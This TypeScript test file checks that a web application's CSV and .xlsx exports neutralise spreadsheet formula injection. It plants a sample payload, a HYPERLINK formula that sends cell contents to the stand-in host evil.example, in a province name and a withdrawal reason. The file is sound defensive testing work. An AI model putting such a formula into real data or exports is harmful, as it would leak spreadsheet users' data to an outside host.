import assert from 'node:assert/strict';
import { before, it } from 'node:test';
import ExcelJS from 'exceljs';
import { createRoleMatrixUsers, OWN, tokenFor } from '../../test/factories.ts';
import { fillAspect, listDatasets } from '../../test/fill.ts';
import { describeEachDb } from '../../test/harness.ts';
import { parseCsv } from './csv.ts';

// A value that starts like a number but is a formula: the check that let it through looked at its first two characters.
const EVIL = '-1+HYPERLINK("http://evil.example/?leak="&A1,"ดูรายละเอียด")';
const Y = 2569;
const bearer = (token: string) => ({ authorization: `Bearer ${token}` });

/** Every cell of a CSV answer that a spreadsheet would read as a formula. */
function formulaCells(csv: string): string[] {
  return parseCsv(csv.replace(/^\ufeff/, ''))
    .flat()
    .filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(c));
}

describeEachDb(
  'every CSV the product writes neutralises formulas',
  (t) => {
    const tok: Record<string, string> = {};

    before(async () => {
      // The province's name reaches the status, score and open-data exports as a cell of its own.
      await t.db.kysely
        .updateTable('province')
        .set({ name_th: EVIL })
        .where('code', '=', OWN.province)
        .execute();
      for (const u of ['laoadmin', 'certifier', 'province']) tok[u] = await tokenFor(t.app, `t.own.${u}`);
    });

    it('the status search export (/status.csv)', async () => {
      const res = await t.app.inject({ url: `/status.csv?year=${Y}&province=${OWN.province}` });
      assert.equal(res.statusCode, 200);
      assert.match(String(res.headers['content-type']), /^text\/csv/);
      const rows = parseCsv(res.body.slice(1));
      assert.ok(rows.length > 1, 'the province has LAOs');
      assert.equal(rows[1]![2], `'${EVIL}`);
      assert.deepEqual(formulaCells(res.body), []);
    });

    it('leaves the .xlsx export’s text as text: a string cell, never a formula', async () => {
      const res = await t.app.inject({ url: `/status.xlsx?year=${Y}&province=${OWN.province}` });
      assert.equal(res.statusCode, 200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
      const cell = wb.worksheets[0]!.getCell('C2');
      assert.equal(cell.value, EVIL);
      assert.equal(cell.type, ExcelJS.ValueType.String);
      assert.equal(cell.formula, undefined);
    });

    it('the score exports (/scores.csv and /scores/by-province.csv)', async () => {
      const laos = await t.app.inject({ url: `/scores.csv?year=${Y}&province=${OWN.province}` });
      assert.equal(laos.statusCode, 200);
      assert.ok(parseCsv(laos.body.slice(1)).some((r) => r[1] === `'${EVIL}`));
      assert.deepEqual(formulaCells(laos.body), []);
      const provinces = await t.app.inject({ url: `/scores/by-province.csv?year=${Y}` });
      assert.equal(provinces.statusCode, 200);
      assert.ok(parseCsv(provinces.body.slice(1)).some((r) => r[1] === `'${EVIL}`));
      assert.deepEqual(formulaCells(provinces.body), []);
    });

    it('the open-data export of a data set (/api/v1/exports/datasets/:id.csv)', async () => {
      await fillAspect(t.app, tok.laoadmin!, { lao: OWN.lao, year: Y, aspect: 0 });
      const profile = (await listDatasets(t.app, tok.laoadmin!, OWN.lao, Y)).find((d) => d.sectionNo === 0)!;
      const res = await t.app.inject({ url: `/api/v1/exports/datasets/${profile.datasetId}.csv?year=${Y}` });
      assert.equal(res.statusCode, 200);
      const rows = parseCsv(res.body.slice(1));
      assert.ok(rows.length > 1, 'the LAO’s complete profile is published');
      assert.equal(rows[1]![4], `'${EVIL}`);
      assert.deepEqual(formulaCells(res.body), []);
    });

    it('the certification logs (?format=csv of the LAO’s and the province’s log)', async () => {
      await fillAspect(t.app, tok.laoadmin!, { lao: OWN.lao, year: Y, aspect: 1 });
      const base = `/api/v1/laos/${OWN.lao}/years/${Y}/aspects/1`;
      const certified = await t.app.inject({
        method: 'POST',
        url: `${base}/certifications`,
        headers: bearer(tok.certifier!),
        payload: { level: 'lao' },
      });
      assert.equal(certified.statusCode, 201, certified.body);
      const withdrawn = await t.app.inject({
        method: 'POST',
        url: `${base}/withdrawals`,
        headers: bearer(tok.certifier!),
        payload: { reason: EVIL },
      });
      assert.equal(withdrawn.statusCode, 201, withdrawn.body);
      for (const url of [
        `/certification/laos/${OWN.lao}/years/${Y}/log?format=csv`,
        `/certification/provinces/${OWN.province}/years/${Y}/log?format=csv`,
      ]) {
        const res = await t.app.inject({ url, headers: bearer(tok.province!) });
        assert.equal(res.statusCode, 200, `${url}: ${res.body.slice(0, 200)}`);
        assert.ok(
          parseCsv(res.body.slice(1)).some((r) => r.includes(`'${EVIL}`)),
          `${url} has the reason, neutralised`,
        );
        assert.deepEqual(formulaCells(res.body), [], url);
      }
    });
  },
  { setup: async (t) => void (await createRoleMatrixUsers(t.db.kysely)) },
);
